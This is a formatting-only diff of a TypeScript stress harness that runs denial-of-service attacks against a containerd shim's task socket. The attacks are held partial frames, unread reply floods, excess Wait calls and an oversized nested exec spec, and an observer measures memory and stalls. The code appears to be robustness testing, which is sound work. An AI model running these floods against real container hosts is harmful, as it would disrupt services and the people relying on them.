@@ -52,14 +52,22 @@ const SETTLE_MS = 5000;
 const RECOVERY_MAX_MS = 30_000;
 
 function requestFrame(target: Target, streamId: number, method: string, payload: Uint8Array): Buffer {
-  const body = encodeRequest({ service: TASK_SERVICE, method, payload: Buffer.from(payload), metadata: [{ key: NS_KEY, value: target.namespace }] });
+  const body = encodeRequest({
+    service: TASK_SERVICE,
+    method,
+    payload: Buffer.from(payload),
+    metadata: [{ key: NS_KEY, value: target.namespace }],
+  });
   return encodeFrame(streamId, MessageType.REQUEST, 0, body);
 }
 
 function connectRaw(path: string): Promise<net.Socket> {
   return new Promise((resolve, reject) => {
     const s = net.connect(path);
-    s.once('connect', () => { s.off('error', reject); resolve(s); });
+    s.once('connect', () => {
+      s.off('error', reject);
+      resolve(s);
+    });
     s.once('error', reject);
   });
 }
@@ -69,7 +77,12 @@ function writeOrStall(s: net.Socket, data: Buffer, stallMs = 2000): Promise<bool
   if (s.destroyed) return Promise.resolve(false);
   if (s.write(data)) return Promise.resolve(true);
   return new Promise((resolve) => {
-    const done = (ok: boolean) => { clearTimeout(t); s.off('drain', onDrain); s.off('close', onClose); resolve(ok); };
+    const done = (ok: boolean) => {
+      clearTimeout(t);
+      s.off('drain', onDrain);
+      s.off('close', onClose);
+      resolve(ok);
+    };
     const onDrain = () => done(true);
     const onClose = () => done(false);
     const t = setTimeout(() => done(false), stallMs);
@@ -88,8 +101,13 @@ class Observer {
   private sampler: NodeJS.Timeout;
   private loop: Promise<void>;
 
-  constructor(private readonly target: Target, private readonly client: Client) {
-    this.sampler = setInterval(() => { this.peak = Math.max(this.peak, rssBytes(target.shimPid)); }, 50);
+  constructor(
+    private readonly target: Target,
+    private readonly client: Client
+  ) {
+    this.sampler = setInterval(() => {
+      this.peak = Math.max(this.peak, rssBytes(target.shimPid));
+    }, 50);
     this.loop = this.probe();
   }
 
@@ -98,7 +116,10 @@ class Observer {
     while (!this.stopped) {
       const t0 = Date.now();
       try {
-        await this.client.call(TASK_SERVICE, 'State', req, { timeoutMs: 120_000, metadata: { [NS_KEY]: [this.target.namespace] } });
+        await this.client.call(TASK_SERVICE, 'State', req, {
+          timeoutMs: 120_000,
+          metadata: { [NS_KEY]: [this.target.namespace] },
+        });
       } catch (e) {
         if (this.errors.length < 5) this.errors.push((e as Error).message);
       }
@@ -121,9 +142,7 @@ class Observer {
 }
 
 /** Runs `attack` (which returns a detail line and a function that ends it) with the observer around it. */
-export async function runAttack(
-  target: Target, name: string, attack: () => Promise<AttackRun>,
-): Promise<AttackReport> {
+export async function runAttack(target: Target, name: string, attack: () => Promise<AttackRun>): Promise<AttackReport> {
   const probeClient = await Client.connect(target.socket);
   try {
     await sleep(SETTLE_MS); // the shim is quiet: its idle collection ran
@@ -154,9 +173,17 @@ export async function runAttack(
       rssAfter = rssBytes(target.shimPid);
     }
     return {
-      name, rssBefore, rssPeak: obs.peak, rssAfter, longestStallMs: obs.longestStallMs,
+      name,
+      rssBefore,
+      rssPeak: obs.peak,
+      rssAfter,
+      longestStallMs: obs.longestStallMs,
       secondsToRecover: rssAfter <= rssBefore * 1.2 ? (SETTLE_MS + Date.now() - recoveryStart) / 1000 : -1,
-      probeCalls: obs.calls, probeErrors: obs.errors, shimAlive: pidAlive(target.shimPid), detail, stats,
+      probeCalls: obs.calls,
+      probeErrors: obs.errors,
+      shimAlive: pidAlive(target.shimPid),
+      detail,
+      stats,
     };
   } finally {
     probeClient.close();
@@ -173,18 +200,22 @@ export function partialFrames(target: Target, connections: number, frameBytes = 
     header.writeUInt32BE(1, 4);
     header[8] = MessageType.REQUEST;
     const body = Buffer.alloc(frameBytes - 1, 0x41);
-    await Promise.all(Array.from({ length: connections }, async () => {
-      const s = await connectRaw(target.socket);
-      s.on('error', () => {});
-      s.on('close', () => closedByShim++);
-      socks.push(s);
-      await writeOrStall(s, Buffer.concat([header, body]));
-    }));
+    await Promise.all(
+      Array.from({ length: connections }, async () => {
+        const s = await connectRaw(target.socket);
+        s.on('error', () => {});
+        s.on('close', () => closedByShim++);
+        socks.push(s);
+        await writeOrStall(s, Buffer.concat([header, body]));
+      })
+    );
     await sleep(500);
     return {
       detail: `${connections} connections x ${frameBytes} B partial frame; ${closedByShim} closed by the shim while holding`,
       stats: { closedByShim },
-      end: () => { for (const s of socks) s.destroy(); },
+      end: () => {
+        for (const s of socks) s.destroy();
+      },
     };
   };
 }
@@ -197,25 +228,32 @@ export function unreadReplies(target: Target, requests: number, connections = 1)
     let stalled = 0;
     const perConn = Math.ceil(requests / connections);
     const payload = T.StateRequest.encode({ id: target.containerId }).finish();
-    await Promise.all(Array.from({ length: connections }, async () => {
-      const s = await connectRaw(target.socket);
-      s.on('error', () => {});
-      s.pause(); // never read
-      socks.push(s);
-      let id = 1;
-      for (let done = 0; done < perConn;) {
-        const n = Math.min(1000, perConn - done);
-        const frames: Buffer[] = [];
-        for (let i = 0; i < n; i++, id += 2) frames.push(requestFrame(target, id, 'State', payload));
-        if (!(await writeOrStall(s, Buffer.concat(frames)))) { stalled++; break; }
-        done += n;
-        sent += n;
-      }
-    }));
+    await Promise.all(
+      Array.from({ length: connections }, async () => {
+        const s = await connectRaw(target.socket);
+        s.on('error', () => {});
+        s.pause(); // never read
+        socks.push(s);
+        let id = 1;
+        for (let done = 0; done < perConn;) {
+          const n = Math.min(1000, perConn - done);
+          const frames: Buffer[] = [];
+          for (let i = 0; i < n; i++, id += 2) frames.push(requestFrame(target, id, 'State', payload));
+          if (!(await writeOrStall(s, Buffer.concat(frames)))) {
+            stalled++;
+            break;
+          }
+          done += n;
+          sent += n;
+        }
+      })
+    );
     return {
       detail: `${sent}/${requests} requests written on ${connections} connection(s); ${stalled} connection(s) stopped being read by the shim`,
       stats: { sent, stalled },
-      end: () => { for (const s of socks) s.destroy(); },
+      end: () => {
+        for (const s of socks) s.destroy();
+      },
     };
   };
 }
@@ -227,26 +265,32 @@ export function pendingWaits(target: Target, calls: number, connections = 1) {
     let exhausted = 0;
     const payload = T.WaitRequest.encode({ id: target.containerId }).finish();
     const perConn = Math.ceil(calls / connections);
-    await Promise.all(Array.from({ length: connections }, async () => {
-      const s = await connectRaw(target.socket);
-      s.on('error', () => {});
-      // Replies (refusals) are read and counted roughly by their status text.
-      s.on('data', (d: Buffer) => { exhausted += countOf(d, 'too many'); });
-      socks.push(s);
-      let id = 1;
-      for (let done = 0; done < perConn;) {
-        const n = Math.min(1000, perConn - done);
-        const frames: Buffer[] = [];
-        for (let i = 0; i < n; i++, id += 2) frames.push(requestFrame(target, id, 'Wait', payload));
-        if (!(await writeOrStall(s, Buffer.concat(frames)))) break;
-        done += n;
-      }
-    }));
+    await Promise.all(
+      Array.from({ length: connections }, async () => {
+        const s = await connectRaw(target.socket);
+        s.on('error', () => {});
+        // Replies (refusals) are read and counted roughly by their status text.
+        s.on('data', (d: Buffer) => {
+          exhausted += countOf(d, 'too many');
+        });
+        socks.push(s);
+        let id = 1;
+        for (let done = 0; done < perConn;) {
+          const n = Math.min(1000, perConn - done);
+          const frames: Buffer[] = [];
+          for (let i = 0; i < n; i++, id += 2) frames.push(requestFrame(target, id, 'Wait', payload));
+          if (!(await writeOrStall(s, Buffer.concat(frames)))) break;
+          done += n;
+        }
+      })
+    );
     await sleep(1000);
     return {
       detail: `${calls} Waits on ${connections} connection(s); ~${exhausted} refused as too many`,
       stats: { refused: exhausted },
-      end: () => { for (const s of socks) s.destroy(); },
+      end: () => {
+        for (const s of socks) s.destroy();
+      },
     };
   };
 }
@@ -268,24 +312,41 @@ export function deepExecSpec(target: Target, bytes: number) {
     const outcome: string[] = [];
     const t0 = Date.now();
     try {
-      await client.call(TASK_SERVICE, 'Exec', T.ExecProcessRequest.encode({
-        id: target.containerId, exec_id: execId,
-        spec: { type_url: 'types.containerd.io/opencontainers/runtime-spec/1/Process', value },
-      }).finish(), { timeoutMs: 120_000, metadata: md });
+      await client.call(
+        TASK_SERVICE,
+        'Exec',
+        T.ExecProcessRequest.encode({
+          id: target.containerId,
+          exec_id: execId,
+          spec: { type_url: 'types.containerd.io/opencontainers/runtime-spec/1/Process', value },
+        }).finish(),
+        { timeoutMs: 120_000, metadata: md }
+      );
       outcome.push('Exec ok');
-      await client.call(TASK_SERVICE, 'Start', T.StartRequest.encode({ id: target.containerId, exec_id: execId }).finish(), { timeoutMs: 120_000, metadata: md });
+      await client.call(
+        TASK_SERVICE,
+        'Start',
+        T.StartRequest.encode({ id: target.containerId, exec_id: execId }).finish(),
+        { timeoutMs: 120_000, metadata: md }
+      );
       outcome.push('Start ok');
     } catch (e) {
       outcome.push(`failed: ${(e as Error).message.slice(0, 160)}`);
     }
     outcome.push(`after ${Date.now() - t0} ms`);
-    return { detail: `${bytes} B nested exec spec: ${outcome.join('; ')}`, stats: { outcome: outcome.join('; ') }, end: () => client.close() };
+    return {
+      detail: `${bytes} B nested exec spec: ${outcome.join('; ')}`,
+      stats: { outcome: outcome.join('; ') },
+      end: () => client.close(),
+    };
   };
 }
 
 export function formatReport(r: AttackReport): string {
   const mib = (b: number) => (b / 1048576).toFixed(1);
-  return `${r.name}: RSS ${mib(r.rssBefore)} -> peak ${mib(r.rssPeak)} -> after ${mib(r.rssAfter)} MiB (${r.secondsToRecover >= 0 ? `within 20% ${r.secondsToRecover.toFixed(1)} s after the end` : 'NOT back within 20%'}); ` +
+  return (
+    `${r.name}: RSS ${mib(r.rssBefore)} -> peak ${mib(r.rssPeak)} -> after ${mib(r.rssAfter)} MiB (${r.secondsToRecover >= 0 ? `within 20% ${r.secondsToRecover.toFixed(1)} s after the end` : 'NOT back within 20%'}); ` +
     `longest stall of another connection ${r.longestStallMs} ms (${r.probeCalls} calls, ${r.probeErrors.length} errors` +
-    `${r.probeErrors.length ? `: ${r.probeErrors[0]}` : ''}); shim ${r.shimAlive ? 'alive' : 'DEAD'}\n  ${r.detail}`;
+    `${r.probeErrors.length ? `: ${r.probeErrors[0]}` : ''}); shim ${r.shimAlive ? 'alive' : 'DEAD'}\n  ${r.detail}`
+  );
 }
